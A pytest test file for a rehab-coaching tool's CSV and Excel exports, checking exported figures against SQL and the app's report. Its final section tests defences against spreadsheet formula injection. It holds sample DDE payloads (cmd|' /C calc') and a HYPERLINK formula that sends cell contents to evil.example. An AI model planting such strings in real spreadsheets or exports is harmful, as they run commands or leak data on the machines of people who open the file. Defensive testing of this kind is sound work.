"""`coach export --csv` and `--xlsx`: sessions.csv, one plain row per session and exercise, checked
against the report's own figures for the same sessions and against SQL on the same database."""
from __future__ import annotations

import csv
import html as htmlmod
import re
import sys
from datetime import date, datetime, timedelta

import pytest
from click.testing import CliRunner

from coach.cli import cli
from coach.core.exercises import load_library
from coach.log.store import Store
from coach.report.build import build_report
from coach.report.data import gather
from coach.report.sections import _trend_rows
from store_fixtures import EXERCISES, SettableClock, record_session

CODE = "P017"
FIRST = datetime(2024, 3, 4, 18, 30)            # a Monday evening
TODAY = date(2024, 4, 15)
PLANNED = EXERCISES[:3]
UUID = re.compile(r"[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}", re.I)


def build_patient(path) -> dict:
    """Nine sessions of P017 (left side affected), every 3 days: one interrupted, one short, one
    voided; targets on some sets and the logged evenness of some reps. Returns the special ids."""
    import random

    rng = random.Random(7)
    with Store.open(path, clock=SettableClock(FIRST - timedelta(days=7))) as store:
        store.db.execute("PRAGMA synchronous = OFF")   # test data needs no fsync per rep
        store.add_patient(CODE, "Ann Lee", "left", "=HYPERLINK(\"http://x\")")   # a note that looks like a formula
        store.set_plan(CODE, [{"exercise": ex, "reps": 4, "hold_s": 3, "rest_s": 4} for ex in PLANNED])
        ids = [record_session(store, CODE, FIRST + timedelta(days=3 * i, hours=i % 2), exercises=PLANNED,
                              rng=rng, level=0.25 if i < 4 else 0.1, finish=i != 5) for i in range(9)]
        store.end_session(ids[5], status="interrupted")
        db = store.db
        with db.conn:
            db.execute("UPDATE sets SET planned_reps = 10 WHERE session_id = ?", [ids[6]])      # short
            db.execute("UPDATE sessions SET voided = 'wrong patient' WHERE id = ?", [ids[3]])
            db.execute("UPDATE sets SET target = 0.0825, target_source = 'learned' WHERE exercise = ?", [PLANNED[0]])
            for k, (rep_id,) in enumerate(db.execute(
                    "SELECT id FROM reps WHERE session_id IN (?, ?) ORDER BY rowid", ids[7:9]).fetchall()):
                ratio = 0.5 + 0.04 * k                    # not what the per-side peaks give
                db.execute("INSERT INTO rep_evenness (rep_id, onset_lag_ms, late_side, amplitude_ratio, smoothness) "
                           "VALUES (?, 80, 'left', ?, 0.9)", [rep_id, ratio])
    return {"interrupted": ids[5], "short": ids[6], "voided": ids[3], "evenness": ids[7:9], "all": ids}


@pytest.fixture(scope="module")
def patient(tmp_path_factory):
    folder = tmp_path_factory.mktemp("exports")
    ids = build_patient(folder / "coach.db")
    return folder, ids


def export(db, *args) -> str:
    result = CliRunner().invoke(cli, ["export", CODE, *map(str, args), "--db", str(db)])
    assert result.exit_code == 0, (result.output, result.exception)
    return result.output


@pytest.fixture(scope="module")
def exported(patient):
    folder, ids = patient
    export(folder / "coach.db", "--csv", folder / "csv", "--xlsx", folder / "P017.xlsx")
    with open(folder / "csv" / "sessions.csv", newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    return rows


def q(db, sql, params=()):
    import sqlite3

    conn = sqlite3.connect(db)
    try:
        return conn.execute(sql, params).fetchall()
    finally:
        conn.close()


def num(cell: str) -> float | None:
    return None if cell == "" else float(cell)


def near(cell: str, fraction: float | None) -> bool:
    """A sessions.csv percentage against a fraction the report computed."""
    return (cell == "") if fraction is None else float(cell) == round(100 * fraction, 1)


# ---- sessions.csv -------------------------------------------------------------------------------
def test_files_plain_names_and_owner_only(patient, exported):
    folder, _ = patient
    names = sorted(p.name for p in (folder / "csv").iterdir())
    assert names[-1] == "sessions.csv" and all(n.startswith("raw-") for n in names[:-1])
    assert {"raw-sessions.csv", "raw-reps.csv", "raw-samples.csv", "raw-rep_evenness.csv"} <= set(names)
    assert all((folder / "csv" / n).stat().st_mode & 0o777 == 0o600 for n in names)
    assert list(exported[0]) == ["date", "time", "kind", "status", "exercise", "exercise id", "reps planned",
                                 "reps done", "clean reps", "clean-rep rate (%)", "typical co-movement (%)",
                                 "largest co-movement (%)", "typical co-movement, left (%)",
                                 "typical co-movement, right (%)", "typical movement, left (%)",
                                 "typical movement, right (%)", "typical movement (%)", "evenness (%)",
                                 "mean hold (s)", "hold steadiness (%)", "target (%)", "chin co-movement events",
                                 "neck co-movement events"]
    for row in exported:
        for cell in row.values():
            assert not UUID.search(cell) and "{" not in cell and "[" not in cell, row


def test_one_row_per_shown_session_and_exercise_voided_absent(patient, exported):
    folder, ids = patient
    db = folder / "coach.db"
    pairs = q(db, """SELECT s.started, st.exercise FROM sets st JOIN sessions s ON s.id = st.session_id
                     WHERE s.voided IS NULL ORDER BY s.started, st.started""")
    assert [(r["date"], r["time"], r["exercise id"]) for r in exported] == \
        [(started[:10], started[11:16], ex) for started, ex in pairs]
    [(voided_start,)] = q(db, "SELECT started FROM sessions WHERE id = ?", [ids["voided"]])
    assert voided_start[:10] not in {r["date"] for r in exported}
    assert len(exported) == 8 * len(PLANNED)
    names = {ex.id: ex.name for ex in load_library()[0].values()}
    assert all(r["exercise"] == names[r["exercise id"]] for r in exported)


def test_counts_match_sql(patient, exported):
    """Reps planned, done (complete) and clean (complete, no synkinesis) by direct SQL counts."""
    db = patient[0] / "coach.db"
    sql = q(db, """SELECT st.exercise, sum(st.planned_reps),
                          (SELECT count(*) FROM reps r WHERE r.set_id = st.id AND r.complete),
                          (SELECT count(*) FROM reps r WHERE r.set_id = st.id AND r.complete AND NOT r.synkinesis),
                          st.target
                   FROM sets st JOIN sessions s ON s.id = st.session_id WHERE s.voided IS NULL
                   GROUP BY st.id ORDER BY s.started, st.started""")
    assert sum(c for _, _, _, c, _ in sql) > 0 and any(c < d for _, _, d, c, _ in sql)
    for row, (ex, planned, done, clean, target) in zip(exported, sql, strict=True):
        assert (row["exercise id"], int(row["reps planned"]), int(row["reps done"]), int(row["clean reps"])) == \
            (ex, planned, done, clean)
        assert near(row["clean-rep rate (%)"], clean / done if done else None)
        assert near(row["target (%)"], target)
    assert {r["target (%)"] for r in exported if r["exercise id"] == PLANNED[0]} == {"8.2"}   # 8.25 % -> 8.2


PLOTTED = {"clean-rep rate (%)": "rate", "typical co-movement (%)": "co", "typical movement, left (%)": "amp_first",
           "typical movement, right (%)": "amp_second"}


def plotted_cell(plot: dict, key: str) -> str:
    """A trend plot's point (already in %) as sessions.csv writes it."""
    return "" if plot[key] is None else str(round(plot[key], 1))


def test_figures_match_the_report_data(patient, exported):
    """Clean-rep rate, co-movement and movement per side are the points the report's trend plots draw
    for each session (the affected side is left, so the report's first side is the patient's left)."""
    folder, _ = patient
    with Store.open(folder / "coach.db", readonly=True) as store:
        data = gather(store, CODE, TODAY, load_library()[0])
    assert data.affected == "left"
    series = data.series()
    for ex in PLANNED:
        plotted, _ = _trend_rows(data, ex, series[ex])
        rows = [r for r in exported if r["exercise id"] == ex]
        assert len(rows) == len(plotted) == len(series[ex])
        for row, point, plot in zip(rows, series[ex], plotted):
            assert row["date"] == point.when.date().isoformat()
            assert {c: row[c] for c in PLOTTED} == {c: plotted_cell(plot, key) for c, key in PLOTTED.items()}


def test_evenness_is_the_smaller_sides_share_of_the_larger_worked_out_by_hand(patient, exported):
    """Evenness per session and exercise: the mean over complete reps of the logged amplitude ratio
    folded to at most 1 (0.5 and 2 are equally uneven), or, for a rep with no logged ratio, the smaller
    side's peak over the larger's. Worked out here from the rows as SQL returns them."""
    folder, _ = patient
    sets = q(folder / "coach.db", """SELECT st.id FROM sets st JOIN sessions s ON s.id = st.session_id
                                     WHERE s.voided IS NULL ORDER BY s.started, st.started""")
    expected = []
    for (set_id,) in sets:
        shares = []
        for ratio, left, right in q(folder / "coach.db", """
                SELECT e.amplitude_ratio, r.peak_left, r.peak_right
                FROM reps r LEFT JOIN rep_evenness e ON e.rep_id = r.id WHERE r.set_id = ? AND r.complete""", [set_id]):
            if ratio:
                shares.append(ratio if ratio <= 1 else 1 / ratio)
            elif left is not None and right is not None and max(abs(left), abs(right)) > 0:
                shares.append(min(abs(left), abs(right)) / max(abs(left), abs(right)))
        expected.append("" if not shares else str(round(100 * sum(shares) / len(shares), 1)))
    assert [row["evenness (%)"] for row in exported] == expected
    assert any(e not in ("", "100.0") for e in expected)                  # uneven reps are in the data


def test_co_movement_per_side_is_the_median_of_the_logged_peaks(patient, exported):
    """Each side's typical co-movement: the median over complete reps of |reps.synkinesis_left/right|.
    The reps' values by SQL, their median by `statistics.median`."""
    import statistics

    folder, _ = patient
    sql = q(folder / "coach.db", """SELECT s.id, st.exercise, abs(r.synkinesis_left), abs(r.synkinesis_right)
                   FROM reps r JOIN sets st ON st.id = r.set_id JOIN sessions s ON s.id = r.session_id
                   WHERE r.complete AND s.voided IS NULL ORDER BY s.started, st.exercise""")
    by_key: dict = {}
    for sid, ex, left, right in sql:
        by_key.setdefault((sid, ex), []).append((left, right))
    rows = sorted(((r["date"], r["time"], r["exercise id"]), r) for r in exported if r["reps done"] != "0")
    assert len(rows) == len(by_key) > 0
    assert sorted((round(100 * statistics.median(v[0] for v in vs), 1),
                   round(100 * statistics.median(v[1] for v in vs), 1)) for vs in by_key.values()) == \
        sorted((float(r["typical co-movement, left (%)"]), float(r["typical co-movement, right (%)"])) for _, r in rows)
    assert any(float(r["typical co-movement, left (%)"]) > float(r["typical co-movement, right (%)"]) for _, r in rows)


def test_evenness_uses_the_logged_ratio(patient, exported):
    """Where rep_evenness holds a rep's amplitude ratio, evenness is min(ratio, 1/ratio) (as on the
    patient's summary screen); elsewhere the smaller side's peak over the larger's. By SQL."""
    folder, ids = patient
    db = folder / "coach.db"
    sql = q(db, """SELECT s.id, st.exercise, avg(CASE WHEN e.amplitude_ratio IS NOT NULL
                          THEN min(e.amplitude_ratio, 1 / e.amplitude_ratio)
                          ELSE min(abs(r.peak_left), abs(r.peak_right)) / max(abs(r.peak_left), abs(r.peak_right)) END)
                   FROM reps r JOIN sets st ON st.id = r.set_id JOIN sessions s ON s.id = r.session_id
                   LEFT JOIN rep_evenness e ON e.rep_id = r.id
                   WHERE r.complete AND s.voided IS NULL GROUP BY st.id ORDER BY s.started, st.started""")
    for row, (_, _, even) in zip(exported, sql, strict=True):
        assert near(row["evenness (%)"], even)
    logged = [row for row, (sid, _, _) in zip(exported, sql) if sid in ids["evenness"]]
    assert len(logged) == 2 * len(PLANNED) and all(50 <= num(r["evenness (%)"]) <= 100 for r in logged)


def report_session_list(folder) -> tuple[list[str], list[list[str]]]:
    """The rendered report's session list: its exercise columns and each row's cells."""
    with Store.open(folder / "coach.db", readonly=True) as store:
        page = build_report(store, CODE, today=TODAY)
    section = page[page.index("<section id='sessions'>"):]
    section = section[:section.index("</section>")]
    names = [htmlmod.unescape(h) for h in re.findall(r"<th>(.*?)</th>", section)][6:]
    return names, [[htmlmod.unescape(c) for c in re.findall(r"<td[^>]*>(.*?)</td>", tr)]
                   for tr in re.findall(r'<tr id="session-\d+"[^>]*>(.*?)</tr>', section)]


def test_session_list_in_the_report_matches(patient, exported):
    """The rendered report's session list: date, start, kind, status and complete/planned reps."""
    names, listed = report_session_list(patient[0])
    assert len(listed) == 8
    by_session = [exported[i:i + len(PLANNED)] for i in range(0, len(exported), len(PLANNED))]
    assert {r["status"] for r in exported} == {"completed", "interrupted", "short"}
    for cells, rows in zip(listed, by_session, strict=True):
        when = date.fromisoformat(rows[0]["date"])
        assert cells[1:4] + cells[5:] == [f"{when.day} {when:%b %Y}", rows[0]["time"], rows[0]["kind"],
                                          rows[0]["status"]] + [f"{r['reps done']}/{r['reps planned']}" for r in rows]
        assert names == [r["exercise"] for r in rows]


# ---- the workbook -------------------------------------------------------------------------------
@pytest.fixture(scope="module")
def book(patient, exported):
    import openpyxl

    path = patient[0] / "P017.xlsx"
    assert path.stat().st_mode & 0o777 == 0o600
    return openpyxl.load_workbook(path)


def test_workbook_sessions_sheet_equals_sessions_csv(patient, book):
    folder, _ = patient
    assert book.sheetnames[0] == "Sessions"
    sheet = [[value(v) for v in row] for row in book["Sessions"].iter_rows(values_only=True)]
    with open(folder / "csv" / "sessions.csv", newline="", encoding="utf-8") as f:
        assert sheet == [[value(v) for v in row] for row in csv.reader(f)]
    assert isinstance(book["Sessions"]["H2"].value, int) and isinstance(book["Sessions"]["J2"].value, (int, float))


def test_workbook_raw_sheets_without_samples(patient, book):
    folder, _ = patient
    assert book.sheetnames[1:] == [p.stem for p in sorted((folder / "csv").glob("raw-*.csv"), key=_raw_order)
                                   if p.stem != "raw-samples"]
    reps = list(book["raw-reps"].iter_rows(values_only=True))
    assert len(reps) - 1 == q(folder / "coach.db", "SELECT count(*) FROM reps")[0][0]
    notes = next(c for c in book["raw-patient"][2] if c.value and str(c.value).startswith("="))
    assert notes.data_type == "s"                       # a note is never a formula


def value(cell):
    """A cell (text from the CSV, a value from the sheet) as a number when it is one (a sheet keeps
    11.0 as 11), else its text ("" for an empty cell)."""
    try:
        return float(cell)
    except (TypeError, ValueError):
        return "" if cell is None else cell


def _raw_order(path):
    from coach.report.exports import EXPORT_QUERIES

    return list(EXPORT_QUERIES).index(path.stem.removeprefix("raw-"))


def test_workbook_without_openpyxl_says_what_to_install(patient, monkeypatch):
    folder, _ = patient
    monkeypatch.setitem(sys.modules, "openpyxl", None)          # as if not installed
    result = CliRunner().invoke(cli, ["export", CODE, "--xlsx", str(folder / "no.xlsx"), "--db",
                                      str(folder / "coach.db")])
    assert result.exit_code == 1 and "install coach[xlsx]" in str(result.exception)
    assert not (folder / "no.xlsx").exists()


def test_export_asks_what_to_write(patient):
    folder, _ = patient
    result = CliRunner().invoke(cli, ["export", CODE, "--db", str(folder / "coach.db")])
    assert result.exception.exit_code == 2 and "--csv FOLDER, --xlsx FILE or --fhir FILE" in str(result.exception)


# ---- formula injection (issue 17, item 7) -------------------------------------------------------
HOSTILE = {                        # (table, column): text a spreadsheet would run, or read as a number
    ("patients", "display_name"): "-0.12",                                  # a number, but stored as text
    ("treatments", "sites"): "=cmd|' /C calc'!A0",
    ("treatments", "notes"): "+1+cmd|' /C calc'!A0",
    ("sessions", "source"): '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    ("events", "measure"): "\r=2+5+cmd|' /C calc'!A0",
    ("sessions", "model_version"): "\t=1+1",
    ("sets", "exercise"): "@SUM(1+1)*cmd|' /C calc'!A0",
}
FORMULA = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """P017's records with text that starts like a formula in text columns (one row of each table)."""
    import sqlite3

    folder = tmp_path_factory.mktemp("hostile")
    build_patient(folder / "coach.db")
    with Store.open(folder / "coach.db") as store:
        store.add_treatment(CODE, "2024-03-20", "botulinum_toxin", "left", 5)
    conn = sqlite3.connect(folder / "coach.db")
    with conn:
        for (table, column), text in HOSTILE.items():
            conn.execute(f"UPDATE {table} SET {column} = ? WHERE rowid = (SELECT min(rowid) FROM {table})", [text])
    conn.close()
    export(folder / "coach.db", "--csv", folder / "csv", "--xlsx", folder / "P017.xlsx")
    return folder


def csv_cells(folder) -> dict[str, list[list[str]]]:
    out = {}
    for path in sorted((folder / "csv").glob("*.csv")):
        with open(path, newline="", encoding="utf-8") as f:
            out[path.stem] = list(csv.reader(f))
    return out


def test_csv_cells_that_start_like_a_formula_are_text_and_numbers_stay_numbers(hostile):
    cells = csv_cells(hostile)
    # Every hostile text is there, whole, behind the single quote that makes it text.
    for (table, column), text in HOSTILE.items():
        name = "patient" if table == "patients" else table
        header, *rows = cells[f"raw-{name}"]
        assert "'" + text in [row[header.index(column)] for row in rows], (table, column)
    exercise_ids = [row[5] for row in cells["sessions"][1:]]
    assert "'" + HOSTILE[("sets", "exercise")] in exercise_ids
    # No cell starts like a formula, except the numbers coach wrote itself.
    for name, rows in cells.items():
        for row in rows:
            for cell in row:
                if cell.startswith(FORMULA):
                    assert cell.startswith("-") and float(cell) < 0, (name, cell)
    # The negative numbers of the log (signed co-movement peaks) are numbers in the CSV, as stored.
    header, *reps = cells["raw-reps"]
    signed = [float(r[header.index("synkinesis_peak")]) for r in reps if r[header.index("synkinesis_peak")]]
    stored = [p for (p,) in q(hostile / "coach.db", "SELECT synkinesis_peak FROM reps WHERE synkinesis_peak IS NOT "
                                                    "NULL ORDER BY session_id, start_s")]
    assert any(p < 0 for p in stored) and sorted(signed) == sorted(stored)


def test_workbook_text_is_never_a_formula(hostile):
    """In the workbook, text is a string cell (shown as written, never run): no sheet holds a formula."""
    import zipfile

    import openpyxl

    with zipfile.ZipFile(hostile / "P017.xlsx") as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and not any(b"<f>" in z.read(n) or b"<f " in z.read(n) for n in sheets)
    book = openpyxl.load_workbook(hostile / "P017.xlsx")
    texts = [c for ws in book for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    same = lambda a, b: a.replace("\r", "\n") == b.replace("\r", "\n")    # noqa: E731 (XML reads CR as LF)
    for text in HOSTILE.values():
        found = [c for c in texts if same(c.value, text)]
        assert found and all(c.data_type == "s" for c in found), text
